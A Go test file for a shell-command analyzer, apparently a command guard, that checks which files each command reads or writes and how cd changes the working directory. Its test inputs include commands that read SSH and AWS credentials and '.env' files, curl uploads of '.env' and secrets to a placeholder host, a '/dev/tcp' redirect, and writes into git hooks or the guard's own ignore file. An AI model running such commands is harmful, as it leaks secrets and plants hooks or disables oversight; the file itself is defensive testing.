package parser

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

// refLines renders every file reference of every command compactly:
// "cmd: kind path [w][r][g][d][m][f][t][l]" (f: filtered, t: from the top, l: listed).
// refTest is a row of a file-reference table: a command and its refLines.
type refTest struct {
	src  string
	want []string
}

func TestFileRefs(t *testing.T) {
	t.Parallel()
	tests := []refTest{
		{`cat .env`, []string{"cat: arg .env "}},
		{`cat a 2>/dev/null >&2 </dev/stdin 3>/dev/fd/3`, []string{"cat: arg a "}},
		{`ls > out.txt 2>>err.log < in`, []string{"ls: redirect out.txt w", "ls: redirect err.log w", "ls: redirect in "}},
		{`ls &> all >| clob <> rw`, []string{"ls: redirect all w", "ls: redirect clob w", "ls: redirect rw w"}},
		{`ls >& file`, []string{"ls: redirect file w"}},
		{`cat ~/.ssh/id_rsa $HOME/.aws/credentials`, []string{"cat: arg /home/u/.ssh/id_rsa ", "cat: arg /home/u/.aws/credentials "}},
		{`cat $X/y "${Z:-z}"`, []string{"cat: arg $X/y d", "cat: arg ${Z:-z} d"}},
		{`cat {a,b}.txt`, []string{"cat: arg a.txt ", "cat: arg b.txt "}},
		{`cat {x}a,.env}`, []string{"cat: arg x}a ", "cat: arg .env "}},
		{`cat *.pem "*".go`, []string{"cat: arg *.pem g", "cat: arg *.go "}},
		{`grep -rn TODO src/ --include=*.go`, []string{"grep: option *.go m", "grep: arg TODO m", "grep: arg src/ rf"}},
		{`grep -e x -f pats.txt a b`, []string{"grep: option x m", "grep: option pats.txt ", "grep: arg a ", "grep: arg b "}},
		{`grep -R secret`, []string{"grep: arg secret m", "grep: arg . r"}},
		{`rg -g '*.go' key`, []string{"rg: option *.go m", "rg: arg key m", "rg: arg . rf"}},
		{`sed -i.bak s/a/b/ f1 f2`, []string{"sed: arg s/a/b/ m", "sed: arg f1 w", "sed: arg f1.bak w", "sed: arg f2 w", "sed: arg f2.bak w"}},
		// sed -i SUFFIX writes a backup copy: FILE+SUFFIX, or SUFFIX with
		// * replaced by the file's name
		{`sed -iignore p .cmdguard`, []string{"sed: arg p m", "sed: arg .cmdguard w", "sed: arg .cmdguardignore w"}},
		{`sed -ie s/a/b/ f`, []string{"sed: arg s/a/b/ m", "sed: arg f w", "sed: arg fe w"}},
		{`sed --in-place='.git/hooks/*' p d/f`, []string{"sed: arg p m", "sed: arg d/f w", "sed: arg d/.git/hooks/f w"}},
		{`perl -pi.bak -e 1 f`, []string{"perl: option i.bak m", "perl: arg f w", "perl: arg f.bak w"}},
		{`sed -n -e p -f s.sed in`, []string{"sed: option p m", "sed: option s.sed ", "sed: arg in "}},
		{`awk -F: '{print $1}' /etc/passwd x=1`, []string{"awk: option : m", "awk: arg {print $1} m", "awk: arg /etc/passwd "}},
		{`cp -r src dst`, []string{"cp: arg src r", "cp: arg dst wr"}},
		{`cp a b c/`, []string{"cp: arg a ", "cp: arg b ", "cp: arg c/ w"}},
		{`mv a b`, []string{"mv: arg a w", "mv: arg b w"}},
		{`tee -a log`, []string{"tee: arg log w"}},
		{`dd if=/dev/sda of=disk.img bs=1M`, []string{"dd: arg /dev/sda ", "dd: arg disk.img w"}},
		{`rm -rf build`, []string{"rm: arg build wr"}},
		{`chmod 600 key.pem`, []string{"chmod: arg key.pem w"}},
		{`chown -R u:g dir`, []string{"chown: arg u:g m", "chown: arg dir wr"}},
		{`touch new`, []string{"touch: arg new w"}},
		{`tar czf out.tgz src`, []string{"tar: arg out.tgz w", "tar: arg src r"}},
		{`tar -xf in.tar`, []string{"tar: arg in.tar ", "tar: unknown []"}},
		// The archive named before the mode is written too (real tar:
		// tar -f a.tar -c b and --file o.tar --create b make them).
		{`tar -f a.tar -c b`, []string{"tar: arg a.tar w", "tar: arg b r"}},
		{`tar --file o.tar --create b`, []string{"tar: arg o.tar w", "tar: arg b r"}},
		{`tar -f a.tar -x`, []string{"tar: arg a.tar ", "tar: unknown []"}},
		{`zip -r out.zip dir`, []string{"zip: arg out.zip w", "zip: arg dir r"}}, // the archive is written (real zip: openat zi* O_CREAT, rename to out.zip)
		{`rsync -a src/ host:dst`, []string{"rsync: arg src/ r", "rsync: arg host:dst wr"}},
		{`scp -r -i key dir host:`, []string{"scp: option key ", "scp: arg dir r", "scp: arg host: wr"}},
		{`curl -d @.env -o out https://x.test/a`, []string{"curl: option out w", "curl: at .env "}},
		{`curl -F file=@secret.txt --data-binary=@b https://x`, []string{"curl: at b ", "curl: at secret.txt "}},
		{`echo hello > greeting`, []string{"echo: redirect greeting w"}},
		{`git show HEAD:.env`, []string{"git: rev .env "}},
		{`git cat-file -p main:config/db.yml`, []string{"git: rev config/db.yml "}},
		{`git commit -m "fix /etc/x"`, []string{"git: option fix /etc/x m"}},
		{`git add .`, []string{"git: arg . r"}},
		{`git -C sub diff a.txt`, []string{"git: option sub ", "git: arg sub/a.txt "}},
		{`go test ./... -run=X`, []string{"go: option X m"}},
		{`go vet ./parser`, []string{"go: arg ./parser "}},
		{`head -n 20 f`, []string{"head: arg f "}},
		{`sort -o sorted.txt in`, []string{"sort: option sorted.txt w", "sort: arg in "}},
		{`find src -name '*.go' -exec gofmt -l {} +`, []string{"find: arg src r", "gofmt: unknown [src]"}},
		{`find -delete`, []string{"find: arg . wr"}},
		{`find . -newer ref -fprint out`, []string{"find: arg . ", "find: arg ref ", "find: arg out w"}},
		// Listing is not reading: names and sizes, not contents.
		{`find . -name '*.go'`, []string{"find: arg . "}},
		{`find src -type f`, []string{"find: arg src "}},
		{`find`, []string{"find: arg . "}},
		{`find . -delete`, []string{"find: arg . wr"}},
		{`du -sh .`, []string{"du: option h m", "du: arg . l"}},
		{`git grep foo -- src`, []string{"git: arg foo m", "git: arg src r"}},
		{`git grep foo -- src docs`, []string{"git: arg foo m", "git: arg src r", "git: arg docs r"}},
		{`git grep foo -- '*.env'`, []string{"git: arg foo m", "git: arg . rf"}},
		{`git grep foo`, []string{"git: arg foo m", "git: arg . r"}},
		{`xargs -a list.txt rm`, []string{"xargs: option list.txt ", "rm: unknown []"}},
		{`ls | xargs cat`, []string{"cat: unknown []"}},
		{`parallel gzip ::: a b`, []string{"parallel: arg a ", "parallel: arg b "}},
		{`parallel gzip`, []string{"gzip: unknown []"}},
		{`flock /tmp/lock ls`, []string{"flock: arg /tmp/lock w"}},
		{`script -c ls`, []string{"script: arg typescript w"}},
		{`sudo -e /etc/hosts`, []string{"sudo: arg /etc/hosts w"}},
		{`cat <<EOF > out
x
EOF`, []string{"cat: redirect out w"}},
		{`cat <<< "text"`, nil},
		{`{ ls; cat a; } > both`, []string{"ls: redirect both w", "cat: arg a ", "cat: redirect both w"}},
		{`while read l; do :; done < input`, []string{"read: redirect input ", ":: redirect input "}},
		{`[[ -f .env ]]`, []string{"[[: arg .env "}},
		{`echo a b c`, nil},
		{`> truncated`, []string{": redirect truncated w"}},
		{`cat /dev/null -`, nil},
		{`ls >&- 2>&1- <&0 3>&2`, nil},
		{`bash --rcfile rc.sh -i`, []string{"bash: option rc.sh "}},
		{`bash script.sh arg`, []string{"bash: arg script.sh "}},
		{`shopt -s dotglob; cat *`, []string{"cat: arg * gd"}},
		// Redirect targets are brace-expanded: one result opens it, more
		// are an ambiguous redirect (all reported).
		{`cat < .e{n..n}v`, []string{"cat: redirect .env "}},
		{`echo x > .git/hook{s..s}/pre-commit`, []string{"echo: redirect .git/hooks/pre-commit w"}},
		{`echo >> .cmdguardigno{r..r}e`, []string{"echo: redirect .cmdguardignore w"}},
		{`echo > {a,.env}`, []string{"echo: redirect a w", "echo: redirect .env w"}},
		{`echo 2>&{1..1} >&{x,y}`, []string{"echo: redirect x w", "echo: redirect y w"}},
		{`cat 0<{/dev/tcp/h/1,a}`, []string{"cat: redirect a "}},
	}
	runRefTests(t, tests)
}

func TestCwd(t *testing.T) {
	t.Parallel()
	type cwd struct {
		Cmd string
		Dir string
		Dyn bool
	}
	tests := []struct {
		src  string
		want []cwd
	}{
		{`cd secrets && cat db.txt`, []cwd{{"cd", "/repo", false}, {"cat", "/repo/secrets", false}}},
		{`cd a; cat x`, []cwd{{"cd", "/repo", false}, {"cat", "/repo/a", true}}},
		{`cd a && cd ../b && ls`, []cwd{{"cd", "/repo", false}, {"cd", "/repo/a", false}, {"ls", "/repo/b", false}}},
		{`cd /etc && ls`, []cwd{{"cd", "/repo", false}, {"ls", "/etc", false}}},
		{`cd ~ && ls`, []cwd{{"cd", "/repo", false}, {"ls", "/home/u", false}}},
		{`cd && ls`, []cwd{{"cd", "/repo", false}, {"ls", "/home/u", false}}},
		{`cd "$X" && ls`, []cwd{{"cd", "/repo", false}, {"ls", "/repo", true}}},
		{`cd - && ls`, []cwd{{"cd", "/repo", false}, {"ls", "/repo", true}}},
		{`pushd a && ls && popd && ls`, []cwd{{"pushd", "/repo", false}, {"ls", "/repo/a", false}, {"popd", "/repo/a", false}, {"ls", "/repo/a", true}}},
		{`cd a | ls`, []cwd{{"cd", "/repo", false}, {"ls", "/repo", false}}},
		{`cd a & ls`, []cwd{{"cd", "/repo", false}, {"ls", "/repo", false}}},
		{`(cd a) && ls`, []cwd{{"cd", "/repo", false}, {"ls", "/repo", false}}},
		{`{ cd a; } && ls`, []cwd{{"cd", "/repo", false}, {"ls", "/repo/a", false}}},
		{`if cd a; then ls; fi; pwd`, []cwd{{"cd", "/repo", false}, {"ls", "/repo/a", false}, {"pwd", "/repo/a", true}}},
		{`cd a || exit 1; ls`, []cwd{{"cd", "/repo", false}, {"exit", "/repo", false}, {"ls", "/repo/a", true}}},
		// The body once per known value, each pass where the last ended.
		{`for d in a b; do cd $d; done; ls`, []cwd{{"cd", "/repo", false}, {"cd", "/repo/a", true}, {"ls", "/repo", true}}},
		{`for d in a $X; do cd $d; done; ls`, []cwd{{"cd", "/repo", false}, {"ls", "/repo", true}}},
		{`bash -c 'cd a && ls' && ls`, []cwd{{"bash", "/repo", false}, {"cd", "/repo", false}, {"ls", "/repo/a", false}, {"ls", "/repo", false}}},
		{`command cd a && ls`, []cwd{{"command", "/repo", false}, {"cd", "/repo", false}, {"ls", "/repo/a", false}}},
		{`env -C sub ls`, []cwd{{"env", "/repo", false}, {"ls", "/repo/sub", false}}},
		{`sudo -D /tmp ls`, []cwd{{"sudo", "/repo", false}, {"ls", "/tmp", false}}},
		{`sudo -nD/etc ls`, []cwd{{"sudo", "/repo", false}, {"ls", "/etc", false}}},
		{`sudo --chd=/etc ls`, []cwd{{"sudo", "/repo", false}, {"ls", "/etc", false}}},
		{`cd a && cat $PWD/x ~+/y`, []cwd{{"cd", "/repo", false}, {"cat", "/repo/a", false}}},
		{`pushd -n a && ls`, []cwd{{"pushd", "/repo", false}, {"ls", "/repo", false}}},
		{`pushd -n && ls`, []cwd{{"pushd", "/repo", false}, {"ls", "/repo", false}}},
	}
	for _, tc := range tests {
		t.Run(tc.src, func(t *testing.T) {
			t.Parallel()
			a := Analyze(tc.src, Options{Cwd: "/repo", Env: testEnv})
			var got []cwd
			for _, c := range a.Commands {
				got = append(got, cwd{c.Args[0], c.Cwd, c.CwdDynamic})
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("Analyze(%q) cwd mismatch (-want +got):\n%s", tc.src, diff)
			}
		})
	}
	a := Analyze(`cd a && cat $PWD/x ~+/y`, Options{Cwd: "/repo"})
	if diff := cmp.Diff([]string{"cat: arg /repo/a/x ", "cat: arg /repo/a/y "}, refLines(a)); diff != "" {
		t.Errorf("$PWD after cd mismatch (-want +got):\n%s", diff)
	}
}
